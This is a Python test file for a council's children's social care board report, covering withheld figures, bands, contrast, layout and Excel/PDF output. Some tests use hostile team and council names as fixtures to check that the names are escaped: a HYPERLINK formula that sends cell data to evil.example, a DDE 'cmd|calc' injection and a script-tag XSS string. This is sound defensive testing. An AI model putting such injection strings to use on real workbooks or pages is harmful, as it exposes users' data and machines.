"""The board report from inline publication tables: a withheld figure is never shown, a published one shows how
far the records in doubt could move it, and the Excel workbook says the same."""

from __future__ import annotations

import base64
import io
import re
import zipfile
import zlib
from datetime import date, datetime
from xml.etree import ElementTree

import polars as pl
import pytest

from csc.report import (
    LogoError,
    definition_rows,
    direction,
    format_band,
    logo_data_uri,
    render_caseloads_html,
    render_caseloads_text,
    render_drift_text,
    render_html,
    render_team_page,
    render_text,
    team_figure,
    team_matrix,
    travel_text,
    travel_words,
    write_excel,
    write_pdf,
)
from declarations.catalogue import load_catalogue
from declarations.marts import MARTS_BY_NAME
from tests.frames import expected
from transforms.publication import highlight_report

AS_OF = date(2023, 8, 31)
MONTHS = [date(2023, m, 28) for m in range(3, 9)]


def report_rows() -> pl.DataFrame:
    columns = MARTS_BY_NAME["highlight_report"].column_names
    base = {c: None for c in columns} | {f"month_end_{n}": m for n, m in enumerate(MONTHS, start=1)}
    rows = [
        base
        | {
            "indicator_ref": "4.7.2",
            "section": "Visits",
            "title": "CP visits in time",
            "numerator": 887,
            "denominator": 1000,
            "current_value": 88.7,
            "value_low": 88.3,
            "value_high": 89.1,
            "records_in_doubt": 8,
            "period_type": "snapshot",
            "target_min": 80.0,
            "target_upper": 90.0,
            "rag": "amber",
            "status": "published",
        },
        base
        | {
            "indicator_ref": "5.18",
            "section": "Reviews",
            "title": "CLA reviews in time",
            "records_in_doubt": 13,
            "period_type": "snapshot",
            "target_min": 90.0,
            "target_upper": 95.0,
            "status": "withheld",
            "status_reason": "13 record(s) in doubt: the figure could be anywhere from 93.1 to 96.2",
        },
    ]
    return pl.DataFrame(rows, schema={c: None for c in columns}, infer_schema_length=None).select(columns)


CATALOGUE = pl.DataFrame(
    {
        "indicator_ref": ["4.7.2", "5.18"],
        "section": ["Visits", "Reviews"],
        "title": ["CP visits in time", "CLA reviews in time"],
        "period_type": ["snapshot", "snapshot"],
        "polarity": ["higher", "higher"],
        "target_min": [80.0, 90.0],
        "target_upper": [90.0, 95.0],
        "timescales": ["{}", "{}"],
        "note": [None, "Earlier months are indicative."],
        "counts": ["children on a CP plan seen in time", "reviews held by their due date"],
        "out_of": ["children on a CP plan", "CLA reviews due"],
    }
)
PUBLICATION = {"as_of": AS_OF, "batch_id": "b1", "published_at": datetime(2023, 9, 1, 6, 0), "run_id": "r1"}


def sheet_rows(path, sheet: int) -> list[list]:
    """The rows of one worksheet of an .xlsx file as written (shared strings resolved, numbers as floats)."""
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as z:
        shared = [
            "".join(t.text or "" for t in si.iter(f"{{{ns['x']}}}t"))
            for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("x:si", ns)
        ]
        root = ElementTree.fromstring(z.read(f"xl/worksheets/sheet{sheet}.xml"))
    rows = []
    for row in root.iter(f"{{{ns['x']}}}row"):
        cells: dict[int, object] = {}
        for c in row.findall("x:c", ns):
            letters = re.match(r"[A-Z]+", c.attrib["r"])
            assert letters, c.attrib["r"]
            column = 0
            for ch in letters.group(0):
                column = column * 26 + ord(ch) - 64
            v = c.find("x:v", ns)
            if v is not None:
                assert v.text is not None, c.attrib["r"]
                cells[column - 1] = shared[int(v.text)] if c.get("t") == "s" else float(v.text)
        rows.append([cells.get(i) for i in range(max(cells, default=-1) + 1)])
    return rows


def test_the_band_beside_a_published_figure():
    assert format_band(88.7, 88.3, 89.1, "higher") == "±0.4"
    assert format_band(88.7, 88.5, 89.1, "higher") == "-0.2 +0.4"
    assert format_band(88.7, 88.7, 89.1, "higher") == "+0.4"
    assert format_band(88.7, 88.7, 88.7, "higher") == ""
    assert format_band(679, 676, 751, "count") == "-3 +72"


def test_html_and_text_never_show_a_withheld_figure():
    html = render_html(report_rows(), CATALOGUE, PUBLICATION)
    text = render_text(report_rows(), CATALOGUE)
    assert "88.7%" in html and "±0.4" in html and "88.7% ±0.4" in text
    withheld_row = next(line for line in html.split("<tr>") if "5.18" in line)
    assert "withheld" in withheld_row and "%</td>" not in withheld_row.split("title")[0]
    assert "13 record(s) to fix: marts.duckdb indicator_doubts where indicator_ref = &#x27;5.18&#x27;" in withheld_row
    assert "Earlier months are indicative." in withheld_row
    line = next(line for line in text.splitlines() if line.startswith("5.18"))
    assert "withheld" in line and "%" not in line


def test_the_workbook_says_withheld_with_the_reason_and_never_the_figure(tmp_path):
    values = pl.DataFrame(
        {
            "indicator_ref": ["4.7.2", "5.18"],
            "period_end": [AS_OF, AS_OF],
            "team_id": ["T1", "T1"],
            "numerator": [40, 95],
            "denominator": [50, 100],
            "value": [80.0, 95.0],
            "value_low": [79.0, 90.0],
            "value_high": [81.0, 99.0],
            "rag": ["amber", None],
            "status": ["published", "withheld"],
            "status_reason": [None, "a test"],
        }
    )
    teams = pl.DataFrame({"team_id": ["T1"], "team_name": ["Team One"], "service_area_name": ["Area"]})
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), values, CATALOGUE, teams, AS_OF)
    sheet = sheet_rows(path, 1)
    heads = sheet[1]
    rows = {r[0]: dict(zip(heads, r, strict=False)) for r in sheet[2:] if len(r) > 1 and r[1]}
    assert rows["5.18"]["Current"] == "withheld" and rows["5.18"].get("Num") is None
    assert rows["5.18"]["Why"].startswith("13 record(s) in doubt")
    assert rows["5.18"]["Records to fix"].startswith("13 record(s) to fix")
    assert rows["4.7.2"]["Current"] == 88.7 and rows["4.7.2"]["Could be out by"] == "±0.4"
    by_team = sheet_rows(path, 2)
    assert by_team[0][:5] + by_team[0][11:] == ["Ref", "Measure", "Team id", "Team", "Period", "Num", "Denom"] + [
        "Value",
        "Could be out by",
        "RAG",
        "Status",
        "Why",
    ]
    no_months = [None] * 6
    assert by_team[1:] == [
        ["4.7.2", "CP visits in time", "T1", "Team One", "at month end", *no_months]
        + [40.0, 50.0, 80.0, "±1.0", "AMBER", "published"],
        ["5.18", "CLA reviews in time", "T1", "Team One", "at month end", *no_months]
        + [None, None, "withheld", None, None, "withheld", "a test"],
    ]


def test_names_that_look_like_formulas_or_links_are_written_as_text(tmp_path):
    """A team name is typed by anyone with access to the case system: it must reach Excel as text, never as a live
    formula or a link."""
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "http://evil.example",
    ]
    values = pl.DataFrame(
        {
            "indicator_ref": ["4.7.2"] * len(hostile),
            "period_end": [AS_OF] * len(hostile),
            "team_id": [f"T{i}" for i in range(len(hostile))],
            "numerator": [40] * len(hostile),
            "denominator": [50] * len(hostile),
            "value": [80.0] * len(hostile),
            "value_low": [80.0] * len(hostile),
            "value_high": [80.0] * len(hostile),
            "rag": ["amber"] * len(hostile),
            "status": ["published"] * len(hostile),
            "status_reason": [None] * len(hostile),
        }
    )
    teams = pl.DataFrame(
        {"team_id": [f"T{i}" for i in range(len(hostile))], "team_name": hostile, "service_area_name": hostile}
    )
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), values, CATALOGUE, teams, AS_OF)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not [n for n in z.namelist() if "externalLink" in n or n.endswith(".rels") and "worksheets" in n]
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml and "hyperlink" not in xml.lower(), name
    by_team = [cell for row in sheet_rows(path, 2) for cell in row if isinstance(cell, str)]
    assert set(hostile) <= set(by_team)


def test_the_caseload_section_names_teams_and_puts_the_whole_service_first():
    by_team = expected(
        MARTS_BY_NAME["caseload_by_team"].polars_schema(),
        [
            (AS_OF, "T2", 1, 25, 25.0, 25.0, 25.0, 25.0, 25, 1, 1, 100.0, 0),
            (AS_OF, None, 2, 40, 20.0, 20.0, 17.5, 22.5, 25, 1, 1, 50.0, 0),
            (AS_OF, "T1", 1, 15, 15.0, 15.0, 15.0, 15.0, 15, 0, 0, 0.0, 0),
            (date(2023, 7, 31), None, 9, 9, 1.0, 1.0, 1.0, 1.0, 1, 0, 0, 0.0, 0),
        ],
    )
    teams = pl.DataFrame(
        {"team_id": ["T1", "T2"], "team_name": ["North <Safeguarding>", "South"], "service_area_name": [None, None]}
    )
    text = render_caseloads_text(by_team, teams, AS_OF).splitlines()
    assert text[0] == f"Caseloads at {AS_OF}:"
    assert [line.split()[0] for line in text[2:]] == ["Whole", "North", "South"]
    assert text[2].split()[-6:] == ["40", "20", "20", "25", "1", "50"]
    page = render_caseloads_html(by_team, teams, AS_OF)
    assert "North &lt;Safeguarding&gt;" in page and "<script" not in page
    assert (
        render_caseloads_text(by_team.clear(), teams, AS_OF) == "Caseloads: no worker holds a child at the period end."
    )


def test_the_drift_summary_counts_each_teams_cases_most_first():
    drift = expected(
        MARTS_BY_NAME["drift_list"].polars_schema(),
        [
            (AS_OF, "T1", "W1", "A", "CP plan", "visit", date(2023, 7, 1), 61, 42),
            (AS_OF, "T2", "W2", "B", "looked after", None, None, None, 42),
            (AS_OF, "T2", "W3", "C", "child in need", "visit", date(2023, 7, 1), 61, 42),
        ],
    )
    teams = pl.DataFrame({"team_id": ["T1", "T2"], "team_name": ["North", "South"], "service_area_name": [None, None]})
    assert render_drift_text(drift, teams).splitlines() == [
        "Drift: 3 open cases with no visit, review or plan change for more than 42 days",
        "  South                                           2",
        "  North                                           1",
        "  (the children, by worker: marts.drift_list)",
    ]


def test_englands_figure_stands_beside_ours_with_its_year():
    rows = report_rows().with_columns(
        pl.when(pl.col("indicator_ref") == "4.7.2").then(71.5).otherwise(None).alias("england_value"),
        pl.when(pl.col("indicator_ref") == "4.7.2").then(2025).otherwise(None).alias("comparator_year"),
    )
    page = render_html(rows, CATALOGUE, PUBLICATION)
    assert '<th scope="col">England</th>' in page
    assert '<td>71.5%<span class="band">2024-25</span></td>' in page
    # only the indicator that has a comparator shows one
    assert page.count('<span class="band">2024-25</span>') == 1


# ---- the board's report as a council tables it (issue 16) ----

HOSTILE_COUNCIL = '<script>alert("x")</script> & =HYPERLINK("http://evil.example")'


def relative_luminance(colour: str) -> float:
    """WCAG 2.x relative luminance of an sRGB colour written #rgb or #rrggbb."""
    digits = colour.lstrip("#")
    if len(digits) == 3:
        digits = "".join(c * 2 for c in digits)
    channels = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    r, g, b = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def contrast_ratio(a: str, b: str) -> float:
    light, dark = sorted((relative_luminance(a), relative_luminance(b)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def test_the_contrast_ratio_is_wcags():
    assert round(contrast_ratio("#000", "#ffffff"), 1) == 21.0
    assert contrast_ratio("#777777", "#777777") == 1.0
    # the colours issue 16 found failing
    assert [round(contrast_ratio(a, b), 1) for a, b in (("#f9a825", "#ffecb3"), ("#c62828", "#ffcdd2"))] == [1.7, 4.0]
    assert round(contrast_ratio("#2e7d32", "#c8e6c9"), 1) == 3.8


def css_rules(page: str) -> list[tuple[str, dict[str, str]]]:
    """Every CSS rule of the page's style sheet, outside and inside @media, as (selector, declarations)."""
    sheet = re.search(r"<style>(.*)</style>", page, re.S)
    assert sheet
    rules = []
    for selector, body in re.findall(r"([^{}]+)\{([^{}]*)\}", sheet.group(1)):
        declarations = dict(
            (name.strip(), value.strip()) for name, _, value in (d.partition(":") for d in body.split(";")) if value
        )
        rules.append((selector.strip().split("\n")[-1].strip(), declarations))
    return rules


def test_every_text_colour_of_the_page_passes_wcag_aa_on_its_background():
    page = render_html(report_rows(), CATALOGUE, PUBLICATION)
    rules = css_rules(page)
    page_background = next(d["background"] for s, d in rules if s == "body")
    checked = {}
    for selector, declarations in rules:
        if "color" in declarations:
            background = declarations.get("background", page_background)
            checked[selector] = contrast_ratio(declarations["color"], background)
    assert {"th", "td.better", "td.worse", "td.rag-green", "td.rag-amber", "td.rag-red", "span.reason"} <= set(checked)
    assert {s: r for s, r in checked.items() if r < 4.5} == {}
    # the RAG bar beside the word, a mark that is not text: at least 3:1 against the page and against its fill
    bars = {
        s: (re.search(r"#[0-9a-f]{6}", d["box-shadow"]).group(0), d["background"])  # type: ignore[union-attr]
        for s, d in rules
        if "box-shadow" in d
    }
    assert set(bars) == {"td.rag-green", "td.rag-amber", "td.rag-red"}
    assert all(min(contrast_ratio(bar, page_background), contrast_ratio(bar, fill)) >= 3 for bar, fill in bars.values())
    # no colour is set in the rows themselves, where this test would not see it
    assert "style=" not in page.split("<body>")[1]


def test_the_page_prints_on_a4_landscape_with_headings_repeated_and_pages_broken_before_each_part():
    page = render_html(report_rows(), CATALOGUE, PUBLICATION)
    rules = dict(css_rules(page))
    assert rules["@page"]["size"] == "A4 landscape"
    assert rules["thead"]["display"] == "table-header-group"
    assert rules["tr"]["break-inside"] == "avoid"
    assert rules["section.page"]["break-before"] == "page"
    assert '<section class="page" id="definitions">' in page


def test_period_types_read_in_plain_words_and_the_header_says_what_this_is():
    catalogue = CATALOGUE.with_columns(pl.Series("period_type", ["ytd", "rolling_year"]))
    rows = report_rows().with_columns(pl.Series("period_type", ["ytd", "rolling_year"]))
    page = render_html(rows, catalogue, PUBLICATION, council="Northshire")
    cells = re.findall(r'<td class="period">([^<]*)</td>', page)
    assert cells == ["year to date", "12 months to date"]
    assert not re.search(r"\b(snapshot|ytd|rolling_year)\b", page)
    assert "<h1>Children's social care performance at 31 August 2023</h1>" in page
    assert "How Northshire\u2019s children's social care services are doing" in page
    assert "Published 1 September 2023 at 06:00." in page


def test_the_councils_name_is_escaped_everywhere(tmp_path):
    page = render_html(report_rows(), CATALOGUE, PUBLICATION, council=HOSTILE_COUNCIL)
    assert "<script>" not in page and "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; =HYPERLINK" in page
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), TEAM_VALUES, CATALOGUE, TEAMS, AS_OF, council=HOSTILE_COUNCIL)
    with zipfile.ZipFile(path) as z:
        assert all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
        # "&" starts a code in a printed header: the name's own is doubled
        assert (
            '&amp;L&lt;script&gt;alert("x")&lt;/script&gt; &amp;&amp; =HYPERLINK'
            in z.read("xl/worksheets/sheet1.xml").decode()
        )


def png_bytes() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 4), (0, 70, 140)).save(out, format="PNG")
    return out.getvalue()


def test_the_logo_is_embedded_and_a_wrong_file_says_so(tmp_path):
    logo = tmp_path / "logo.png"
    logo.write_bytes(png_bytes())
    uri = logo_data_uri(logo)
    assert uri == "data:image/png;base64," + base64.b64encode(png_bytes()).decode()
    page = render_html(report_rows(), CATALOGUE, PUBLICATION, council="Northshire", logo_uri=uri)
    assert f'<img src="{uri}" alt="Northshire logo">' in page
    assert "http" not in page.split("<body>")[1]  # one file, nothing fetched
    with pytest.raises(FileNotFoundError, match="CSC_COUNCIL_LOGO=.*missing.png: no such file"):
        logo_data_uri(tmp_path / "missing.png")
    (tmp_path / "logo.txt").write_text("not a picture")
    with pytest.raises(LogoError, match="not a PNG, JPEG or GIF image"):
        logo_data_uri(tmp_path / "logo.txt")


def test_direction_of_travel_by_polarity_with_ties_and_missing_months():
    cases = [
        (90.0, 80.0, "higher"),
        (80.0, 90.0, "higher"),
        (10.0, 12.0, "lower"),
        (12.0, 10.0, "lower"),
        (88.71, 88.69, "higher"),  # both 88.7% as the board reads them
        (88.76, 88.69, "higher"),
        (None, 80.0, "higher"),
        (80.0, None, "lower"),
        (721.0, 785.0, "count"),
        (36.7, 36.1, "rate"),
        (285.0, 285.0, "count"),
    ]
    assert [direction(now, then, pol) for now, then, pol in cases] == [
        ("up", "better"),
        ("down", "worse"),
        ("down", "better"),
        ("up", "worse"),
        ("same", "same"),
        ("up", "better"),
        ("", "no figure to compare"),
        ("", "no figure to compare"),
        ("down", "down"),
        ("up", "up"),
        ("same", "same"),
    ]
    assert [travel_text(now, then, pol) for now, then, pol in cases[:3] + cases[4:5] + cases[6:7]] == [
        "\u25b2 better",
        "\u25bc worse",
        "\u25bc better",
        "= same",
        "\u2013",
    ]
    assert [travel_words(now, then, pol) for now, then, pol in (cases[2], cases[4], cases[6], cases[8])] == [
        "down, better",
        "same",
        "-",
        "down",
    ]


def test_the_report_shows_a_year_ago_and_the_direction_of_travel():
    rows = report_rows().with_columns(
        pl.Series("value_month_5", [90.0, None]),
        pl.Series("value_month_6", [88.7, None]),
        pl.Series("value_year_ago", [85.0, 96.0]),
        pl.Series("month_end_year_ago", [date(2022, 8, 28)] * 2),
    )
    page = render_html(rows, CATALOGUE, PUBLICATION)
    assert re.findall(r'<td class="travel (\w+)">([^<]*)</td>', page) == [
        ("worse", "\u25bc worse"),
        ("better", "\u25b2 better"),
        ("neutral", "\u2013"),
        ("neutral", "\u2013"),
    ]
    heads = re.findall(r'<th scope="col">([^<]*)</th>', page.split('<table class="headline">')[1].split("</thead>")[0])
    assert heads[:5] == ["Ref", "Measure", "Period", "Aug 22", "Year end Mar 23"]
    assert heads[-7:] == ["Now", "Trend", "Aug vs Jul", "Aug vs a year ago", "Target", "England", "RAG"]
    assert "<td>85.0%</td>" in page and "<td>96.0%</td>" in page


def test_the_published_report_holds_the_same_month_a_year_before():
    columns = MARTS_BY_NAME["indicator_values"].column_names
    base = {c: None for c in columns}
    values = pl.DataFrame(
        [
            base | {"indicator_ref": "4.7.2", "period_end": date(2022, 8, 31), "value": 85.0, "status": "published"},
            base | {"indicator_ref": "4.7.2", "period_end": AS_OF, "value": 88.7, "status": "published"},
            base | {"indicator_ref": "5.18", "period_end": date(2022, 8, 31), "value": 96.0, "status": "withheld"},
        ],
        schema=MARTS_BY_NAME["indicator_values"].polars_schema(),
    )
    report = highlight_report(values, load_catalogue(), AS_OF)
    assert report.filter(pl.col("indicator_ref").is_in(["4.7.2", "5.18"])).select(
        "indicator_ref", "month_end_year_ago", "value_year_ago"
    ).rows() == [("4.7.2", date(2022, 8, 31), 85.0), ("5.18", date(2022, 8, 31), None)]


TEAMS = pl.DataFrame(
    {
        "team_id": ["T2", "T1"],
        "team_name": ["South <b>team</b>", "=North"],
        "service_area_name": [None, None],
    }
)
TEAM_VALUES = pl.DataFrame(
    {
        "indicator_ref": ["4.7.2", "4.7.2", "4.7.2", "5.18", "4.7.2"],
        "period_end": [AS_OF, AS_OF, AS_OF, AS_OF, MONTHS[4]],
        "team_id": ["T1", "T2", None, "T1", "T1"],
        "numerator": [40, 9, 49, 95, 30],
        "denominator": [50, 10, 60, 100, 40],
        "value": [80.0, 90.0, 81.7, 95.0, 75.0],
        "value_low": [80.0, 90.0, 81.7, 90.0, 75.0],
        "value_high": [80.0, 90.0, 81.7, 99.0, 75.0],
        "rag": ["amber", "green", "amber", None, "red"],
        "status": ["published", "published", "published", "withheld", "published"],
        "status_reason": [None, None, None, "a test", None],
    }
)


def test_the_team_page_shows_each_teams_figure_with_its_rag_in_words_and_names_escaped():
    columns, rows = team_matrix(TEAM_VALUES, TEAMS, report_rows(), AS_OF)
    assert columns == [("T2", "South <b>team</b>"), ("T1", "=North")]
    assert [(r["indicator_ref"], {t: team_figure(v, "higher") for t, v in by_team.items()}) for r, by_team in rows] == [
        ("4.7.2", {"T1": "80.0% A", "T2": "90.0% G"}),
        ("5.18", {"T1": "withheld"}),
    ]
    page = render_team_page(TEAM_VALUES, TEAMS, report_rows(), CATALOGUE, AS_OF)
    assert '<th scope="col">South &lt;b&gt;team&lt;/b&gt;</th>' in page and "<b>" not in page
    assert '<td class="rag-green">90.0% G</td><td class="rag-amber">80.0% A</td>' in page
    assert '<section class="page" id="teams">' in page


def test_definitions_are_in_words():
    catalogue = CATALOGUE.with_columns(
        pl.Series("timescales", ['{"timescale_working_days": 10, "window_days": 56}', "{}"]),
        pl.Series("polarity", ["higher", "lower"]),
    )
    assert definition_rows(catalogue) == [
        {
            "Ref": "4.7.2",
            "Measure": "CP visits in time",
            "Counts": "children on a CP plan seen in time",
            "Out of": "children on a CP plan",
            "Section": "Visits",
            "Period": "at month end",
            "Better when": "higher is better",
            "Targets and RAG": "green at or above 90%; red below 80%; amber between",
            "Timescales": "timescale: 10 working days; window: 56 days",
            "Note": "",
        },
        {
            "Ref": "5.18",
            "Measure": "CLA reviews in time",
            "Counts": "reviews held by their due date",
            "Out of": "CLA reviews due",
            "Section": "Reviews",
            "Period": "at month end",
            "Better when": "lower is better",
            "Targets and RAG": "green at or below 95%; red above 90%; amber between",
            "Timescales": "",
            "Note": "Earlier months are indicative.",
        },
    ]
    page = render_html(report_rows(), catalogue, PUBLICATION)
    assert '<td class="text">timescale: 10 working days; window: 56 days</td>' in page
    assert '<td class="text">children on a CP plan seen in time</td><td class="text">children on a CP plan</td>' in page


def pdf_pages_and_text(pdf: bytes) -> tuple[int, list[str]]:
    """Page count and each content stream's text (fpdf2 writes one compressed stream per page, in order)."""
    pages = len(re.findall(rb"/Type /Page\b(?!s)", pdf))
    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S)
    return pages, [zlib.decompress(s).decode("latin-1") for s in streams]


def test_the_pdf_is_a4_landscape_text_in_the_reports_order(tmp_path):
    path = tmp_path / "report.pdf"
    logo = tmp_path / "logo.png"
    logo.write_bytes(png_bytes())
    count = write_pdf(
        path, report_rows(), TEAM_VALUES, CATALOGUE, TEAMS, PUBLICATION, "Northshire \u2013 Council", logo
    )
    pdf = path.read_bytes()
    pages, texts = pdf_pages_and_text(pdf)
    assert pdf.startswith(b"%PDF-") and (pages, count) == (3, 3)
    assert re.findall(rb"/MediaBox \[[^\]]*\]", pdf) == [b"/MediaBox [0 0 841.89 595.28]"]
    assert b"/Subtype /Image" in pdf
    contents = [t for t in texts if " Tj" in t]
    assert len(contents) == 3
    first, teams, definitions = contents
    assert "(Northshire - Council) Tj" in first and "(CP visits in time) Tj" in first and "(withheld) Tj" in first
    assert "(88.7% \\2610.4) Tj" in first or "88.7% \xb10.4" in first
    assert "(Teams at 31 August 2023) Tj" in teams and "(=North) Tj" in teams and "(80.0% A) Tj" in teams
    assert "(Definitions) Tj" in definitions and "(Earlier months are indicative.) Tj" in definitions


def sheet_xml(path, name: str) -> str:
    """A worksheet's XML by its tab name."""
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
        names = re.findall(r'<sheet name="([^"]+)"', book)
        return z.read(f"xl/worksheets/sheet{names.index(name) + 1}.xml").decode()


DRILL = pl.DataFrame(
    {
        "indicator_ref": ["4.7.2", "4.7.2", "4.7.2"],
        "period_end": [AS_OF, AS_OF, MONTHS[4]],
        "person_id": ["P1", "=P2", "P3"],
        "record_id": ["CP1", "CP2", "CP3"],
        "team_id": ["T1", "T2", "T1"],
        "worker_id": ["W1", "@W2", "W1"],
        "in_numerator": [True, False, True],
        "key_date": [date(2023, 8, 20), None, date(2023, 7, 20)],
        "due_date": [date(2023, 8, 25), date(2023, 8, 25), None],
        "detail": ["visited in time", "+no visit", "visited"],
    }
)


def test_every_sheet_prints_a4_landscape_one_page_wide_with_its_headings_on_every_page(tmp_path):
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), TEAM_VALUES, CATALOGUE, TEAMS, AS_OF, [], DRILL, "Northshire")
    sheets = ["Highlight report", "By team", "Drill-through", "Definitions", "Caseloads"]
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', book) == sheets
    titles = re.findall(r'<definedName name="_xlnm.Print_Titles" localSheetId="(\d)">[^<]*!\$(\d+):\$(\d+)<', book)
    assert sorted(titles) == [("0", "3", "3"), ("1", "1", "1"), ("2", "2", "2"), ("3", "1", "1"), ("4", "1", "1")]
    for name in sheets:
        xml = sheet_xml(path, name)
        assert '<pageSetUpPr fitToPage="1"/>' in xml, name
        assert '<pageSetup paperSize="9" fitToHeight="0" orientation="landscape"/>' in xml, name  # 1 wide
        assert '<printOptions gridLines="1"/>' in xml, name
        assert "<oddFooter>&amp;LPeriod end 31 August 2023&amp;RPage &amp;P of &amp;N</oddFooter>" in xml, name


def test_the_drill_through_sheet_lists_the_records_behind_each_figure_at_the_period_end(tmp_path):
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), TEAM_VALUES, CATALOGUE, TEAMS, AS_OF, [], DRILL)
    rows = sheet_rows(path, 3)
    assert rows[1:] == [
        ["Ref", "Measure", "Team id", "Team", "Worker id", "Child", "Record", "Counted in the measure"]
        + ["Key date", "Due date", "Detail"],
        ["4.7.2", "CP visits in time", "T1", "=North", "W1", "P1", "CP1", "yes", 45158.0, 45163.0, "visited in time"],
        ["4.7.2", "CP visits in time", "T2", "South <b>team</b>", "@W2", "=P2", "CP2", "no", None, 45163.0]
        + ["+no visit"],
    ]
    xml = sheet_xml(path, "Drill-through")
    assert '<autoFilter ref="A2:K4"/>' in xml and 'ySplit="2"' in xml and "<f>" not in xml


def test_the_by_team_sheet_has_each_teams_six_months(tmp_path):
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), TEAM_VALUES, CATALOGUE, TEAMS, AS_OF)
    rows = sheet_rows(path, 2)
    assert rows[0][5:11] == [f"{m:%b %y}" for m in MONTHS]
    # a team's month is blank where it has no figure (here every month but July), its status where not published
    assert rows[1:] == [
        ["4.7.2", "CP visits in time", "T1", "=North", "at month end", None, None, None, None, 75.0, None]
        + [40.0, 50.0, 80.0, None, "AMBER", "published"],
        ["4.7.2", "CP visits in time", "T2", "South <b>team</b>", "at month end", *[None] * 6]
        + [9.0, 10.0, 90.0, None, "GREEN", "published"],
        ["5.18", "CLA reviews in time", "T1", "=North", "at month end", *[None] * 6]
        + [None, None, "withheld", None, None, "withheld", "a test"],
    ]


def test_the_definitions_sheet_is_in_words(tmp_path):
    path = tmp_path / "report.xlsx"
    write_excel(path, report_rows(), TEAM_VALUES, CATALOGUE, TEAMS, AS_OF)
    rows = sheet_rows(path, 4)
    assert rows[0] == [
        "Ref",
        "Measure",
        "Counts",
        "Out of",
        "Section",
        "Period",
        "Better when",
        "Targets and RAG",
        "Timescales",
        "Note",
    ]
    assert rows[1] == [
        "4.7.2",
        "CP visits in time",
        "children on a CP plan seen in time",
        "children on a CP plan",
        "Visits",
        "at month end",
        "higher is better",
        "green at or above 90%; red below 80%; amber between",
    ]
    assert not any("{" in str(cell) for row in rows for cell in row)


def test_the_terminal_report_heads_each_section_and_marks_a_cut_title():
    long_title = "% of children looked after with 3 or more placements in the last 12 months (lower is better)"
    rows = report_rows().with_columns(pl.Series("title", ["CP visits in time", long_title]))
    lines = render_text(rows, CATALOGUE).splitlines()
    assert [line.split()[0] for line in lines[1:]] == ["Visits", "4.7.2", "Reviews", "5.18"]
    assert lines[4][9:71].rstrip() == "% of children looked after with 3 or more… (lower is better)"
